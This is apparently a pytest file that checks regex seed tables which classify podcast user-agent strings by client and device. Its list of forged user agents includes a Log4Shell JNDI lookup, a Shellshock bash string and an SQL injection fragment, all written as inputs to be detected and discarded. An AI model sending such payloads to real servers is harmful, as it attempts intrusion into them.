"""The user-agent seeds: well-formed, right on literal cases, in agreement with labelled examples.

What lives here: checks of `seeds/user_agent_patterns.csv` and `seeds/device_patterns.csv` with
Python's `re`, first match wins, as the models do it with PostgreSQL's `~`. What does not: how the
models turn a category into a discard reason, which the dbt unit tests show.
"""

import csv
import re
from pathlib import Path
from typing import NamedTuple

import pytest

ROOT = Path(__file__).resolve().parents[2]
SEEDS = ROOT / "seeds"
EXAMPLES = ROOT / ".." / "shared" / "data" / "user_agents"
CATEGORIES = ["bot", "app", "library", "browser"]
DEVICE_CATEGORIES = {
    "phone",
    "tablet",
    "computer",
    "smart_speaker",
    "smart_tv",
    "watch",
    "car",
    "console",
    "other",
}
POSTGRES_ONLY = re.compile(r"\\[ymMAZbB<>]|\[\[[:.=]")


class Rule(NamedTuple):
    """A compiled seed row: `label` is (category, name, discard_as) or (device name, category)."""

    pattern: re.Pattern[str]
    label: tuple[str, ...]


def read_seed(name: str) -> list[dict[str, str]]:
    with (SEEDS / name).open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines))


def compiled(name: str, columns: tuple[str, ...]) -> list[Rule]:
    rows = sorted(read_seed(name), key=lambda row: int(row["match_order"]))
    return [Rule(re.compile(row["pattern"]), tuple(row[c] for c in columns)) for row in rows]


def first_match(rules: list[Rule], user_agent: str) -> tuple[str, ...] | None:
    """Return the label of the first rule that matches, or None: the user agent is unknown."""
    return next((rule.label for rule in rules if rule.pattern.search(user_agent)), None)


@pytest.fixture(scope="module")
def client_rules() -> list[Rule]:
    return compiled("user_agent_patterns.csv", ("category", "name", "discard_as"))


@pytest.fixture(scope="module")
def device_rules() -> list[Rule]:
    return compiled("device_patterns.csv", ("device_name", "device_category"))


@pytest.mark.parametrize("seed", ["user_agent_patterns.csv", "device_patterns.csv"])
def test_seed_is_well_formed(seed: str) -> None:
    rows = read_seed(seed)
    orders = [int(row["match_order"]) for row in rows]
    patterns = [row["pattern"] for row in rows]
    assert orders == sorted(set(orders))
    assert len(patterns) == len(set(patterns))
    for row in rows:
        assert all(value == value.strip() for value in row.values())
        assert row["pattern"]
        assert not POSTGRES_ONLY.search(row["pattern"]), row
        assert "(?i" not in row["pattern"][1:], row
        assert not re.search(row["pattern"], ""), row


def test_categories_stand_in_the_documented_order() -> None:
    rows = read_seed("user_agent_patterns.csv")
    assert list(rows[0]) == ["match_order", "category", "name", "pattern", "discard_as", "note"]
    assert list(dict.fromkeys(row["category"] for row in rows)) == CATEGORIES
    assert [row["category"] for row in rows] == sorted((row["category"] for row in rows), key=CATEGORIES.index)


def test_only_libraries_may_go_either_way() -> None:
    reasons: dict[str, set[str]] = {category: set() for category in CATEGORIES}
    for row in read_seed("user_agent_patterns.csv"):
        reasons[row["category"]].add(row["discard_as"])
    assert reasons == {
        "bot": {"bot", "apple_watch", "forged_user_agent"},
        "app": {""},
        "library": {"", "not_a_player"},
        "browser": {""},
    }


def test_device_categories_are_the_accepted_ones() -> None:
    rows = read_seed("device_patterns.csv")
    assert list(rows[0]) == ["match_order", "device_name", "device_category", "pattern", "note"]
    assert {row["device_category"] for row in rows} == DEVICE_CATEGORIES


WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
IOS_WEBKIT = "(iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
IPHONE = "(iPhone; U; CPU OS 15_8_2 like Mac OS X; en_us)"
FEEDS = "Feed parsers of podcast apps"
WEB_VIEW = "Other web view with an app token"
CLOTHES = "Contact address in a browser's clothes"
COMPATIBLE = "Declared compatible in a browser's clothes"
ON_LINUX = "Web view with an unknown token on Linux"
ITS_CLIENT = "App that names itself after its system client"
CAR = "Android Auto or built-in car system"
CLIENTS = [
    # bots
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bot", "Googlebot", "bot"),
    ("facebookexternalhit/1.1", "bot", "Meta", "bot"),
    ("atc/1.0 watchOS/7.1 model/Watch5,4 hwp/t8006", "bot", "Apple Podcasts (Watch)", "apple_watch"),
    ("atc/1.0", "bot", "Apple Podcasts (Watch)", "bot"),
    ("(null)/(null) watchOS/5.0.1 model/Watch3,3", "bot", "Apple Podcasts (Watch)", "apple_watch"),
    ("iTMS", "bot", "iTMS", "bot"),
    ("ListenNotes/3.0 (id=c1ef; +https://www.listennotes.com/about/)", "bot", "Listen Notes", "bot"),
    ("Overcast/1.0 Podcast Sync (1 subscribers; feed-id=1)", "bot", FEEDS, "bot"),
    ("Mastodon/4.3.9 (http.rb/5.2.0; +https://example.social/)", "bot", "Fediverse server", "bot"),
    ("IsItDown/1.0", "bot", "Uptime and synthetic monitoring", "bot"),
    ("masscan/1.3", "bot", "Security scanners", "bot"),
    ("ZmEu", "bot", "Security scanners", "bot"),
    (f"Mozilla/5.0 (X11) {WEBKIT} HeadlessChrome/105.0 Safari/537.36", "bot", "Automated browsers", "bot"),
    ("Mozilla/5.0 (compatible; Somebody/1.0)", "bot", "Declared compatible client", "bot"),
    ("SomethingBot/1.0", "bot", "Generic: bot", "bot"),
    ("my-episode-thing/0.1", "bot", "Generic: hyphenated script name", "bot"),
    ("Unheard/1.0 (+https://unheard.example/about)", "bot", "Generic: contact address", "bot"),
    (
        f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/99.0 Safari/537.36 (+https://x.example)",
        "bot",
        CLOTHES,
        "bot",
    ),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Some/1.0)", "bot", COMPATIBLE, "bot"),
    (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/99.0 Safari/537.36 Render/1.0", "bot", ON_LINUX, "bot"),
    # apps
    ("Podcasts/4023.510.2 CFNetwork/1494.0.7 Darwin/23.4.0", "app", "Apple Podcasts", ""),
    ("Podcaster/1709.2.2 CFNetwork/1390 Darwin/22.0.0", "app", "Apple Podcasts", ""),
    ("\u64ad\u5ba2/1709.2.2 CFNetwork/1390 Darwin/22.0.0", "app", "Apple Podcasts", ""),
    ("%E6%92%AD%E5%AE%A2/1660.5 CFNetwork/1335.0.3 Darwin/21.6.0", "app", "Apple Podcasts", ""),
    ("iTunes/11.1.3 (Windows; Microsoft Windows 7 Service Pack 1)", "app", "iTunes", ""),
    ("iTunes/10.7 Downcast/2.8.13.1001", "app", "Downcast", ""),
    ("Overcast/2.0 (+http://overcast.fm/; iOS podcast app)", "app", "Overcast", ""),
    ("Pocket%20Casts/7.95.0.4 CFNetwork/3826.600.41 Darwin/24.6.0", "app", "Pocket Casts", ""),
    ("Shifty Jelly Pocket Casts, Android v4.4.2", "app", "Pocket Casts", ""),
    ("CastBox/8.2.6 (Linux;Android 10) ExoPlayerLib/2.10.4", "app", "Castbox", ""),
    ("PodcastAddict/v2 - Dalvik/2.1.0 (Linux; U; Android 9)", "app", "Podcast Addict", ""),
    ("AntennaPod/3.4.0", "app", "AntennaPod", ""),
    ("Spotify/8.9.42.575 Android/33 (LM-G900)", "app", "Spotify", ""),
    ("gPodder/3.10.21 (+http://gpodder.org/) Linux", "app", "gPodder", ""),
    ("Amazon;Echo_Dot;27d4dfe427b34d57995b463e5d63198d;;tpapi;3.199", "app", "Amazon Alexa", ""),
    ("NSPlayer/10.0.0.4072 WMFSDK/10.0", "app", "Windows Media Player", ""),
    ("Tweetbot/53300 CFNetwork/1335.0.3 Darwin/21.6.0", "app", "X (Twitter)", ""),
    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148 Instagram 108.0", "app", "Facebook and Instagram", ""),
    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148 NewApp/1.2", "app", WEB_VIEW, ""),
    ("Grace%20Church/4.9.2 CFNetwork/893.14.2 Darwin/17.3.0", "app", "Other Apple app", ""),
    ("NewRadio/9.1.0 (Linux;Android 11) ExoPlayerLib/2.9.2", "app", "Other Android app", ""),
    ("Newcomer 2.4", "app", "Other app", ""),
    ("Dalvik/2.1.0 (Linux; U; Android 13; SM-G991U) newcast/3.7.0", "app", ITS_CLIENT, ""),
    ("Mozilla/5.0 (Linux; U; Android 9) Newcast", "app", "App with a platform and no engine", ""),
    # libraries: players count, scripts do not
    (f"AppleCoreMedia/1.0.0.19H384 {IPHONE}", "library", "AppleCoreMedia", ""),
    ("stagefright/1.2 (Linux;Android 4.4)", "library", "stagefright", ""),
    ("Dalvik/2.1.0 (Linux; U; Android 9; SM-N950U)", "library", "Dalvik", ""),
    ("ExoPlayer/11.2 (Linux;Android 8) AndroidXMedia3/1.4.1", "library", "ExoPlayer and Media3", ""),
    ("Lavf/55.33.100", "library", "Lavf", ""),
    ("curl/7.51.0", "bot", "curl", "bot"),
    ("Wget/1.14 (darwin12.4.0)", "bot", "Wget", "bot"),
    ("python-requests/2.31.0", "bot", "python-requests", "bot"),
    ("Go-http-client/1.1", "library", "Go", "not_a_player"),
    ("okhttp/3.11.0", "library", "OkHttp", "not_a_player"),
    ("Apache-HttpClient/4.5.13 (Java/17.0.10)", "library", "Apache HttpClient", "not_a_player"),
    ("Python/3.10 aiohttp/3.9.3", "library", "Python", "not_a_player"),
    ("Somebody-HttpClient/2.1", "library", "Other HTTP client", "not_a_player"),
    ("Java/17.0.1", "library", "Java and Kotlin", "not_a_player"),
    ("libwww-perl/6.34", "bot", "libwww-perl", "bot"),
    # browsers
    (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/120.0 Safari/537.36", "browser", "Chrome", ""),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:25.0) Gecko/20100101 Firefox/25.0", "browser", "Firefox", ""),
    (f"Mozilla/5.0 {IOS_WEBKIT} Version/17.2 Mobile/15E148 Safari/604.1", "browser", "Safari", ""),
    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148", "browser", "Web view on iOS", ""),
    (
        f"Mozilla/5.0 (Windows NT 10.0) {WEBKIT} Chrome/120.0 Safari/537.36 Edg/120.0",
        "browser",
        "Edge",
        "",
    ),
    ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)", "browser", "Internet Explorer", ""),
    (
        f"Mozilla/5.0 (Linux; Android 9; CUBOT X19) {WEBKIT} Chrome/78.0 Mobile Safari/537.36",
        "browser",
        "Chrome",
        "",
    ),
]


@pytest.mark.parametrize(("user_agent", "category", "name", "discard_as"), CLIENTS)
def test_client(client_rules: list[Rule], user_agent: str, category: str, name: str, discard_as: str) -> None:
    assert first_match(client_rules, user_agent) == (category, name, discard_as)


FORGED = [
    ("Mozilla/5.0", "Bare Mozilla token"),
    ("Mozilla/4.0 (compatible;)", "Bare Mozilla token"),
    ("${jndi:ldap://198.18.0.1/a}", "Placeholder"),
    ("{{user_agent}}", "Placeholder"),
    ("{user_agent}", "Placeholder"),
    ("<user-agent>", "Placeholder"),
    ("%s", "Placeholder"),
    ("null", "Placeholder"),
    ("undefined", "Placeholder"),
    ("None", "Placeholder"),
    ("[object Object]", "Placeholder"),
    ("User-Agent", "Placeholder"),
    (f"Mozilla/5.0 (Windows NT 10.0) {WEBKIT} Chrome/W.X.Y.Z Safari/537.36", "Placeholder of a version"),
    ("Podcast\x07Player/1.0", "Control characters"),
    ("Podcast\\x00Player/1.0", "Control characters"),
    (f'"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/120.0 Safari/537.36"', "Quotes around the whole"),
    ("'Overcast/3.0'", "Quotes around the whole"),
    ("() { :;}; /bin/bash -c 'id'", "Attack in place of a user agent"),
    ("Mozilla/5.0' or '1'='1", "Attack in place of a user agent"),
    (f"Mozilla/5.0 (Windows NT 10.0; iPhone) {WEBKIT} Safari/604.1", "Two systems at once"),
    (f"Mozilla/5.0 (Macintosh; Windows NT 10.0) {WEBKIT} Chrome/99.0 Safari/537.36", "Two systems at once"),
    (
        f"Mozilla/5.0 (Windows NT 11.0; Win64; x64) {WEBKIT} Chrome/120.0 Safari/537.36",
        "Windows that does not exist",
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36", "Browser without an engine"),
    ("Chrome/120.0.0.0", "Browser without an engine"),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Gecko on iOS",
    ),
]


@pytest.mark.parametrize(("user_agent", "name"), FORGED)
def test_forged(client_rules: list[Rule], user_agent: str, name: str) -> None:
    assert first_match(client_rules, user_agent) == ("bot", name, "forged_user_agent")


@pytest.mark.parametrize(
    "user_agent",
    [
        # Windows Phone took the names of all others; an app without a name says (null).
        "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; Trident/7.0) like iPhone OS 7_0_3",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
        "Mozilla/5.0 (compatible; Somebody/1.0)",
        "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.229 Version/11.62",
        "(null)/1.0 CFNetwork/1410.0.3 Darwin/22.6.0",
        "Chrome/120.0.6099.101 CFNetwork/1410.0.3 Darwin/22.6.0",
        "Player's Choice/1.0 (Linux;Android 12) ExoPlayerLib/2.18.1",
        "%E6%92%AD%E5%AE%A2/1660.5 CFNetwork/1335.0.3 Darwin/21.6.0",
        "Null Radio/1.0 (iPhone; iOS 17.0)",
        "yourApplicationName/1.0 (Linux;Android 12) ExoPlayerLib/2.18.1",
    ],
)
def test_odd_but_not_forged(client_rules: list[Rule], user_agent: str) -> None:
    found = first_match(client_rules, user_agent)
    assert found is None or found[2] != "forged_user_agent"


@pytest.mark.parametrize("user_agent", ["", "-", ".", "0"])
def test_nothing_to_go_by_is_unknown(client_rules: list[Rule], user_agent: str) -> None:
    assert first_match(client_rules, user_agent) is None


DEVICES = [
    (f"AppleCoreMedia/1.0.0.19H384 {IPHONE}", "Apple iPhone", "phone"),
    ("AppleCoreMedia/1.0.0.13G36 (iPod touch; U; CPU OS 9_3_5)", "Apple iPod touch", "phone"),
    ("AppleCoreMedia/1.0.0.13G36 (iPad; U; CPU OS 9_3_5 like Mac OS X)", "Apple iPad", "tablet"),
    ("AppleCoreMedia/1.0.0.20K71 (Apple TV; U; CPU OS 16_1)", "Apple TV", "smart_tv"),
    ("AirPodcasts/4022.700.8 CFNetwork/1410.0.3", "Apple HomePod", "smart_speaker"),
    ("atc/1.0 watchOS/7.1 model/Watch5,4", "Apple Watch", "watch"),
    ("Podcasts/4023.510.2 CFNetwork/1494.0.7 Darwin/23.4.0", "Apple phone or tablet", "phone"),
    ("Podcasts/1410.53 CFNetwork/1111 Darwin/19.0.0 (x86_64)", "Mac", "computer"),
    ("iTunes/11.1.3 (Macintosh; OS X 10.9) AppleWebKit/537.71", "Mac", "computer"),
    ("Dalvik/2.1.0 (Linux; U; Android 9; SM-N950U)", "Android phone", "phone"),
    ("Player/1.0 (Linux; Android 12; SM-T970)", "Android tablet", "tablet"),
    (f"Mozilla/5.0 (Linux; Android 11; A10) {WEBKIT} Chrome/99.0 Safari/537.36", "Android tablet", "tablet"),
    ("NSPlayer/10.0.0.4072 WMFSDK/10.0", "Windows computer", "computer"),
    (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Safari/537.36", "Linux or Unix computer", "computer"),
    ("Amazon;Echo_Dot;27d4dfe427b34d57995b463e5d63198d;;tpapi;3", "Amazon Echo", "smart_speaker"),
    ("Roku/DVP-9.10 (499.10E04121A)", "Roku", "smart_tv"),
    ("samsung;un55ru7100;568a50c7e7f64fe3b44a3316ef5590fd;;tpapi;3", "Samsung TV", "smart_tv"),
    ("sony_tv;ps5;9b18101888dd42948afd0b8792122bec;;tpapi;3", "PlayStation", "console"),
    ("Garmin fenix 6 Pro/26.0", "Garmin watch", "watch"),
    ("Spotify/4.4.1.0 Rivian/30 (Rivian)", CAR, "car"),
    ("Mozilla/5.0 (Mobile; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5", "KaiOS phone", "phone"),
    ("Zune/4.8", "Other mobile device", "other"),
]


@pytest.mark.parametrize(("user_agent", "name", "category"), DEVICES)
def test_device(device_rules: list[Rule], user_agent: str, name: str, category: str) -> None:
    assert first_match(device_rules, user_agent) == (name, category)


def test_a_user_agent_without_a_device_has_none(device_rules: list[Rule]) -> None:
    assert first_match(device_rules, "Pocket Casts") is None


def test_agreement_with_labelled_examples(client_rules: list[Rule]) -> None:
    """At least 95 % of the public OPAWG examples fall in the category they are labelled with."""
    path = EXAMPLES / "opawg_user_agent_examples.csv"
    if not path.is_file():
        pytest.skip(
            "labelled user agents are missing: no ../shared/data/user_agents beside the project, "
            "so the agreement of the seeds is NOT measured"
        )
    with path.open(encoding="utf-8", newline="") as lines:
        examples = [row for row in csv.DictReader(lines) if row["category"] in CATEGORIES]
    assert len(examples) > 1000
    wrong = [
        (row["category"], label[0] if label else "unknown", row["user_agent_example"])
        for row in examples
        if (label := first_match(client_rules, row["user_agent_example"])) is None or label[0] != row["category"]
    ]
    agreement = 1 - len(wrong) / len(examples)
    assert agreement >= 0.95, f"{agreement:.3f}: {wrong}"
